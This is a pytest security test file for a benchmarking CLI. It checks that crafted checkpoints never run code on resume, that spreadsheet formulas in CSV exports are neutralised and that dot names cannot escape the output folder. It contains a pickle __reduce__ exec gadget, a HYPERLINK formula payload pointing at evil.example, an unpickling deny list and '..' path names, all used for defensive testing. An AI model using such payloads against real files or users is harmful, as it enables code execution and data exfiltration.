"""Issue 17, as a user meets it: hostile run folders and hostile names, through the CLI.

- a crafted checkpoint in a run folder never runs its code on ``--resume``;
- no ``pickle``/``weights_only=False`` anywhere in the package (an AST and text scan);
- entry and scenario names that are spreadsheet formulas are neutralised in CSV exports;
- a scenario named like mathtext (``$\\undefined$``) still gets its report;
- entry or suite names ``.``/``..`` cannot write outside ``--out``.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import io
import json
import shutil
import textwrap
from pathlib import Path

import pandas as pd
import pytest
import torch
from typer.testing import CliRunner

import energybench
from energybench.cli import app
from energybench.report.export import csv_safe, neutralize_csv_cell
from energybench.run.checkpoint import recipe_path

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MATH = r"$\undefined$"

SUITE = f"""\
name: hostile
defaults:
  dataset:
    name: photos
    params: {{patch_size: 16, test_crop: 32x32, serve_lr: 16x16, seq_size: 48x48, seq_frames: 4}}
  train: {{steps: 1, batch_size: 1}}
  evaluate: {{max_items: 1}}
energy:
  idle_baseline_s: 0
  min_window_s: 0
  min_window_iters: 2
  trials: 1
  allow_estimates_in_ranking: true
metric:
  quality: psnr_db
entries:
  - name: +cmd
    model: {{name: espcn, params: {{channels: 4, layers: 2, first_kernel: 3}}}}
    serve:
      - {{scenario: throughput, name: '{FORMULA.replace("'", "''")}', warmup: 0, iterations: 2}}
      - {{scenario: throughput, name: '@SUM(1+1)', warmup: 0, iterations: 2}}
  - name: -rm
    model: {{name: bicubic}}
    serve:
      - {{scenario: throughput, name: '{MATH}', warmup: 0, iterations: 2}}
"""


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A finished run whose names are formulas and mathtext, with its HTML report."""
    tmp = tmp_path_factory.mktemp("hostile")
    suite = tmp / "hostile.yaml"
    suite.write_text(textwrap.dedent(SUITE))
    report = tmp / "report.html"
    res = CliRunner().invoke(
        app, ["run", str(suite), "--out", str(tmp / "results"), "--report", str(report)]
    )
    assert res.exit_code == 0, res.output
    (manifest,) = (tmp / "results").glob("hostile/*/manifest.json")
    return suite, manifest.parent


# --------------------------------------------------------------------------- crafted checkpoints
class _RunsCode:
    """Unpickling this calls ``exec``: it writes a marker file (the attack we must not allow)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (f"open({str(self.marker)!r}, 'w').write('ran')",)


@pytest.mark.parametrize("with_recipe", [True, False], ids=["recipe-hash-matches", "no-recipe"])
def test_resume_never_runs_code_from_a_crafted_checkpoint(
    hostile_run: tuple[Path, Path], tmp_path: Path, with_recipe: bool
) -> None:
    suite, finished = hostile_run
    run_dir = tmp_path / "run"
    shutil.copytree(finished, run_dir)
    marker = tmp_path / "marker"
    ckpt = run_dir / "entries/+cmd/checkpoints/train.pt"
    torch.save({"convs.0.weight": _RunsCode(marker)}, ckpt)  # what an attacker would ship
    recipe = recipe_path(ckpt)
    record = run_dir / "entries/+cmd/train.json"
    train = json.loads(record.read_text())
    if with_recipe:  # the worst case: recipe and phase record altered to match the crafted file
        data = json.loads(recipe.read_text())
        data["state_sha256"] = hashlib.sha256(ckpt.read_bytes()).hexdigest()
        recipe.write_text(json.dumps(data))
        train["checkpoint"]["sha256"] = data["state_sha256"]
    else:  # an old-style pickled checkpoint has no recipe and its record no checkpoint hash
        recipe.unlink()
        del train["checkpoint"]
    record.write_text(json.dumps(train))
    for phase in ("serve", "evaluate"):  # make --resume load the checkpoint
        (run_dir / f"entries/+cmd/{phase}.json").unlink()

    res = CliRunner().invoke(app, ["run", str(suite), "--resume", str(run_dir), "--no-report"])

    assert not marker.exists(), "the crafted checkpoint's code ran"
    assert res.exit_code == 1, res.output
    assert "entry '+cmd' failed: CheckpointError" in res.output
    why = "not a plain state dict of tensors" if with_recipe else "no recipe"
    assert why in res.output and "drop --resume" in res.output
    assert "Traceback" not in res.output
    rec = json.loads((run_dir / "entries/+cmd/serve.json").read_text())
    assert rec["status"] == "failed" and "CheckpointError" in rec["error"]
    # the other entry is untouched: its finished phases are reused
    assert json.loads((run_dir / "entries/-rm/serve.json").read_text())["status"] == "done"


def test_run_checkpoints_are_plain_tensors_with_a_recipe(hostile_run: tuple[Path, Path]) -> None:
    _, run_dir = hostile_run
    ckpt = run_dir / "entries/+cmd/checkpoints/train.pt"
    state = torch.load(ckpt, weights_only=True)
    assert type(state) is dict and all(isinstance(v, torch.Tensor) for v in state.values())
    recipe = json.loads(recipe_path(ckpt).read_text())
    assert recipe["format"] == "energybench-checkpoint" and recipe["model"]["name"] == "espcn"
    assert recipe["state_sha256"] == hashlib.sha256(ckpt.read_bytes()).hexdigest()


def test_the_crafted_file_would_run_code_if_unpickled(tmp_path: Path) -> None:
    """The attack in the test above is real: a full unpickle runs it."""
    marker = tmp_path / "marker"
    torch.save({"w": _RunsCode(marker)}, tmp_path / "evil.pt")
    torch.load(tmp_path / "evil.pt", weights_only=False)  # only ever here, on our own file
    assert marker.read_text() == "ran"


# --------------------------------------------------------------------------- no unpickling
_FORBIDDEN_TEXT = (
    "weights_only=False",
    "import pickle",
    "from pickle",
    "pickle.load",
    "cloudpickle",
    "import dill",
    "joblib",
    "read_pickle",
    "allow_pickle=True",
    "def __reduce__",
    "def __setstate__",
)


def unsafe_loads(source: str) -> list[str]:
    """Problems in ``source``: ``torch.load`` without ``weights_only=True``, forbidden text."""
    problems = [f"'{t}'" for t in _FORBIDDEN_TEXT if t in source]
    for node in ast.walk(ast.parse(source)):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "load"
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "torch"
        ):
            safe = any(
                k.arg == "weights_only"
                and isinstance(k.value, ast.Constant)
                and k.value.value is True
                for k in node.keywords
            )
            if not safe:
                problems.append(f"torch.load without weights_only=True at line {node.lineno}")
    return problems


def test_the_scanner_finds_unsafe_loads() -> None:
    assert unsafe_loads("import torch\ntorch.load(p)\n")
    assert unsafe_loads("torch.load(p, weights_only=flag)\n")
    assert unsafe_loads("import pickle\n")
    assert not unsafe_loads("torch.load(p, map_location='cpu', weights_only=True)\n")


#: The one audited module allowed to use pickle: a restricted unpickler for CIFAR batches.
RESTRICTED = "data/safe_unpickle.py"


def test_nothing_in_the_package_unpickles() -> None:
    root = Path(energybench.__file__).parent
    found = {
        str(p.relative_to(root)): probs
        for p in sorted(root.rglob("*.py"))
        if str(p.relative_to(root)) != RESTRICTED
        and (probs := unsafe_loads(p.read_text(encoding="utf-8")))
    }
    assert found == {}


def test_the_cifar_unpickler_refuses_code(tmp_path: Path) -> None:
    import pickle

    import numpy as np

    from energybench.data.safe_unpickle import load_restricted

    ok = tmp_path / "batch"
    ok.write_bytes(pickle.dumps({b"data": np.arange(6, dtype=np.uint8), b"labels": [1, 2]}))
    assert list(load_restricted(ok)[b"labels"]) == [1, 2]

    class Evil:
        def __reduce__(self):  # noqa: ANN204 - the attack under test
            return (exec, ("open('owned', 'w').write('x')",))

    bad = tmp_path / "evil"
    bad.write_bytes(pickle.dumps({b"data": Evil()}))
    with pytest.raises(pickle.UnpicklingError, match="builtins.exec"):
        load_restricted(bad)
    assert not Path("owned").exists()


# --------------------------------------------------------------------------- CSV formulas
def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell and cell[0] in "=+-@\t\r":
                float(cell)  # only plain numbers may start so


def test_csv_export_neutralises_formula_names(hostile_run: tuple[Path, Path]) -> None:
    _, run_dir = hostile_run
    res = CliRunner().invoke(app, ["export", str(run_dir), "--format", "csv", "-o", "-"])
    assert res.exit_code == 0, res.output
    rows = _csv_cells(res.stdout)
    _assert_no_formula_cells(rows)
    cells = {c for row in rows for c in row}
    assert {"'+cmd", "'-rm", "'" + FORMULA, "'@SUM(1+1)", MATH} <= cells
    df = pd.read_csv(io.StringIO(res.stdout))  # numbers stay numbers
    assert df["energy_j"].dtype == "float64" and df["energy_j"].notna().any()


def test_split_csv_export_neutralises_formula_names(
    hostile_run: tuple[Path, Path], tmp_path: Path
) -> None:
    _, run_dir = hostile_run
    out = tmp_path / "split"
    res = CliRunner().invoke(
        app, ["export", str(run_dir), "--format", "csv", "--split", "-o", str(out)]
    )
    assert res.exit_code == 0, res.output
    scenarios = _csv_cells((out / "scenarios.csv").read_text())
    _assert_no_formula_cells(scenarios)
    header = scenarios[0]
    names = {r[header.index("scenario")] for r in scenarios[1:]}
    assert names == {"'" + FORMULA, "'@SUM(1+1)", MATH}
    for path in out.glob("*.csv"):
        _assert_no_formula_cells(_csv_cells(path.read_text()))


def test_json_export_keeps_names_verbatim(hostile_run: tuple[Path, Path]) -> None:
    _, run_dir = hostile_run
    res = CliRunner().invoke(app, ["export", str(run_dir), "--format", "json", "-o", "-"])
    assert res.exit_code == 0, res.output
    assert {"+cmd", "-rm"} <= {r["entry"] for r in json.loads(res.stdout)}


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-rm", "'-rm"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),
        ("+1e3", "+1e3"),
        ("ok=1", "ok=1"),
        ("", ""),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_neutralize_csv_cell(cell: object, safe: object) -> None:
    assert neutralize_csv_cell(cell) == safe


def test_csv_safe_leaves_numbers_alone() -> None:
    frame = pd.DataFrame(
        {
            "name": pd.Series(["=x", "-y", None], dtype="string"),
            "energy_j": pd.Series([-1.5, 2.0, None], dtype="float64"),
            "n": pd.Series([-2, 3, None], dtype="Int64"),
        }
    )
    out = csv_safe(frame)
    assert out["name"].tolist()[:2] == ["'=x", "'-y"] and pd.isna(out["name"][2])
    assert out["energy_j"].dtype == "float64" and out["energy_j"][0] == -1.5
    assert out["n"].dtype == "Int64" and out["n"][0] == -2
    text = out.to_csv(index=False)
    assert "\n'=x,-1.5,-2\n" in text


# --------------------------------------------------------------------------- plots
def test_a_mathtext_scenario_name_still_gets_a_report(hostile_run: tuple[Path, Path]) -> None:
    suite, _ = hostile_run
    page = (suite.parent / "report.html").read_text()
    assert "undefined" in page and "+cmd" in page


def test_report_command_with_mathtext_names(hostile_run: tuple[Path, Path], tmp_path: Path) -> None:
    _, run_dir = hostile_run
    res = CliRunner().invoke(app, ["report", str(run_dir), "-o", str(tmp_path / "r.html")])
    assert res.exit_code == 0, res.output
    assert "<svg" in (tmp_path / "r.html").read_text()


@pytest.mark.skipif(
    shutil.which("pdflatex") is None, reason="no pdflatex (texlive-latex-recommended)"
)
def test_latex_table_of_hostile_names_compiles(
    hostile_run: tuple[Path, Path], tmp_path: Path
) -> None:
    import subprocess

    from energybench.report.latex import latex_document

    _, run_dir = hostile_run
    res = CliRunner().invoke(app, ["export", str(run_dir), "--format", "latex", "-o", "-"])
    assert res.exit_code == 0, res.output
    (tmp_path / "doc.tex").write_text(latex_document(res.stdout))
    done = subprocess.run(
        ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", "doc.tex"],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout[-3000:]


# --------------------------------------------------------------------------- paths
def _suite_with(tmp_path: Path, suite_name: str, entry_name: str) -> Path:
    path = tmp_path / "s.yaml"
    path.write_text(
        textwrap.dedent(f"""\
        name: '{suite_name}'
        defaults:
          dataset: {{name: photos}}
        entries:
          - name: '{entry_name}'
            model: {{name: bicubic}}
        """)
    )
    return path


@pytest.mark.parametrize(
    ("suite_name", "entry_name", "where", "what"),
    [
        ("ok", "..", "s.yaml:5:", "entry name '..'"),
        ("ok", ".", "s.yaml:5:", "entry name '.'"),
        ("ok", ".hidden", "s.yaml:5:", "entry name '.hidden'"),
        ("..", "a", "s.yaml:1:", "suite name '..'"),
        (".", "a", "s.yaml:1:", "suite name '.'"),
    ],
)
def test_dot_names_exit_2_before_anything_is_written(
    tmp_path: Path, suite_name: str, entry_name: str, where: str, what: str
) -> None:
    suite = _suite_with(tmp_path, suite_name, entry_name)
    out = tmp_path / "nest" / "out"
    for cmd in (["validate", str(suite)], ["run", str(suite), "--out", str(out), "--no-report"]):
        res = CliRunner().invoke(app, cmd)
        assert res.exit_code == 2, res.output
        assert where in res.output and what in res.output and "starts with '.'" in res.output
        assert "Traceback" not in res.output
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["s.yaml"]


def test_dot_scenario_name_is_refused(tmp_path: Path) -> None:
    suite = _suite_with(tmp_path, "ok", "a")
    res = CliRunner().invoke(
        app, ["validate", str(suite), "--set", "entries.a.serve=[{scenario: load, name: ..}]"]
    )
    assert res.exit_code == 2, res.output
    assert "scenario name '..'" in res.output and "entries.0.serve.0.name" in res.output


def test_a_report_that_fails_keeps_the_run_and_says_how_to_retry(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import energybench.report.html as html

    def broken(*args: object, **kwargs: object) -> None:
        raise ValueError(r"Unknown symbol: \undefined [at 1]")

    monkeypatch.setattr(html, "write_report", broken)
    suite = _suite_with(tmp_path, "ok", "a")
    res = CliRunner().invoke(app, ["run", str(suite), "--out", str(tmp_path / "out")])
    assert res.exit_code == 1, res.output
    assert "report could not be written" in res.output and "energybench report" in res.output
    assert r"\undefined [at 1]" in res.output and "Traceback" not in res.output
    assert list((tmp_path / "out").glob("ok/*/entries/a/evaluate.json"))
